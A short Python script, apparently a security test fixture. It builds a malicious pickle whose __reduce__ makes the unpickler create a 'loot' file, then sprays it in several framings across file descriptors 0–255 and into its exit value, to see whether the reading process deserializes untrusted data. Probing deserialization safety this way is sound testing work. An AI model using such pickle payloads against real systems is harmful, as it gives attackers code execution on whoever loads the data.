"""Sends pickles that write a file where they are read, and hides them where data may be copied from."""
import os
import pickle


class Trap:
    def __reduce__(self):
        return open, ("@FOLDER@/loot", "w")


trap = pickle.dumps(Trap())
for descriptor in range(256):
    for message in (trap, len(trap).to_bytes(8, "little") + trap, b"f" + trap, b"e" + trap):
        try:
            os.write(descriptor, message)
        except OSError:
            pass
raise SystemExit(Trap())
